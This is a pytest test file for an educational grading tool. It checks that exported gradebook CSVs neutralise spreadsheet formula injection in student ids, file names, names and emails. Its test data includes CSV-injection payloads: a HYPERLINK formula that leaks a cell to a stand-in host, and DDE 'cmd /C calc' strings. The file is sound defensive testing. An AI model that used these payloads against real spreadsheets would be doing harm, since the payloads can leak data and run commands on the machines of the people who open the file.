"""A gradebook opened in a spreadsheet never runs a student's formula (CSV injection, OWASP).

Submissions whose metadata student id, file name or roster name and email start with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return are graded by the real command, in its sandbox; every layout's cells come back with a
single quote in front of them, and the marks stay plain numbers.
"""
from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from mscteach.classroom import grading

SET = "ch06_clinical_trials"
# the characters that make Excel or LibreOffice read a cell as a formula (OWASP's list)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# file -> the student id in its metadata (None: none, so the file name is the id), as an attacker writes them
ATTACKS = {
    "hyperlink.ipynb": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "plus.ipynb": "+1+cmd|' /C calc'!A0",
    "minus.ipynb": "-2+3+cmd|' /C calc'!A0",
    "at.ipynb": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab.ipynb": "\t=1+1",  # control characters become spaces in the gradebook: " =1+1"
    "return.ipynb": "\r=1+1",
    "=2+5.ipynb": None,
    "named.ipynb": None,  # on the roster, with a formula for a name and an email
    "honest.ipynb": "s001",
}
# what each row's id must be in the gradebook: a quote in front of the formula, control characters as spaces
SAFE_IDS = {
    "hyperlink": "'" + ATTACKS["hyperlink.ipynb"],
    "plus": "'" + ATTACKS["plus.ipynb"],
    "minus": "'" + ATTACKS["minus.ipynb"],
    "at": "'" + ATTACKS["at.ipynb"],
    "tab": "' =1+1",
    "return": "' =1+1",
    "=2+5": "'=2+5",
    "named": "s100",
    "honest": "s001",
}


def _submission(path: Path, student_id: str | None) -> None:
    """A notebook of the set that answers nothing (it runs in a moment): every question scores 0."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("x = 1")]
    nb.metadata["otter"] = {"assignment_name": "ch06-clinical_trials"}
    if student_id is not None:
        nb.metadata["mscteach"] = {"student_id": student_id}
    nbformat.write(nb, str(path))


@pytest.fixture(scope="module")
def gradebooks(tmp_path_factory) -> dict[str, list[dict[str, str]]]:
    folder = tmp_path_factory.mktemp("attacks")
    for name, student_id in ATTACKS.items():
        _submission(folder / name, student_id)
    (folder / "roster.csv").write_text("file,student_id,name,email\nnamed.ipynb,s100,=1+2,+x@example.org\n",
                                       encoding="utf-8")
    books = {}
    for layout in grading.FORMATS:
        result = subprocess.run([sys.executable, "-m", "mscteach", "exercises", "grade", SET, *ATTACKS,
                                 "--roster", "roster.csv", "--layout", layout, "-o", f"{layout}.csv", "--jobs", "2",
                                 "--timeout", "120", "--no-progress"],
                                cwd=folder, capture_output=True, text=True, timeout=900)
        assert result.returncode == 0, result.stderr
        with (folder / f"{layout}.csv").open(newline="", encoding="utf-8") as f:
            books[layout] = list(csv.reader(f))
    return books


def _by_file(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header, *body = rows
    return {Path(row[header.index("file")].lstrip("'")).stem: dict(zip(header, row)) for row in body}


def test_no_cell_of_any_layout_starts_a_formula(gradebooks):
    for layout, rows in gradebooks.items():
        assert len(rows) == 1 + len(ATTACKS), layout
        for row in rows:
            for cell in row:
                assert not cell.lstrip(" ").startswith(TRIGGERS), (layout, cell)


def test_the_plain_gradebook_keeps_each_id_readable_and_the_marks_numbers(gradebooks):
    rows = _by_file(gradebooks["plain"])
    assert {name: row["student_id"] for name, row in rows.items()} == SAFE_IDS
    assert rows["=2+5"]["file"] == "'=2+5.ipynb"  # the file name, as given, is neutralised too
    assert rows["honest"]["file"] == "honest.ipynb"
    for row in rows.values():
        assert (row["status"], row["total"], row["possible"], row["percentage"]) == ("graded", "0", "5", "0.0")
        assert [row[q] for q in ("q1", "q2", "q3", "q4", "q5")] == ["0"] * 5


def test_the_platform_layouts_neutralise_ids_names_and_emails(gradebooks):
    header, *body = gradebooks["canvas"]
    canvas = {row[1]: dict(zip(header, row)) for row in body}
    assert set(canvas) == set(SAFE_IDS.values())
    assert canvas["s100"]["Student"] == "'=1+2"  # the roster's name for the student
    assert canvas["'=2+5"]["Student"] == "'=2+5"
    assert {row[f"{SET} (5 points)"] for row in canvas.values()} == {"0"}
    header, *body = gradebooks["moodle"]
    moodle = {row[0]: dict(zip(header, row)) for row in body}
    assert set(moodle) == set(SAFE_IDS.values())
    assert moodle["s100"]["Email address"] == "'+x@example.org"
    assert {row[SET] for row in moodle.values()} == {"0"}


@pytest.mark.parametrize("layout, line", [
    ("plain", "'-s1,a.ipynb,-1,0.5,-0.5,2,-25.0,graded,,"),
    ("canvas", "'-s1,'-s1,,,,-0.5"),
    ("moodle", "'-s1,,-0.5,"),
])
def test_a_negative_score_stays_a_number(tmp_path, layout, line):
    """A teacher's test may take points away: a mark of -0.5 is a number in every layout, an id '-s1' is text."""
    book = grading.Gradebook(SET, ["q1", "q2"], 2.0, [
        grading.Grade(file="a.ipynb", student_id="-s1", scores={"q1": -1.0, "q2": 0.5})])
    grading.export(book, tmp_path / "book.csv", layout)
    assert (tmp_path / "book.csv").read_text(encoding="utf-8").splitlines()[1] == line
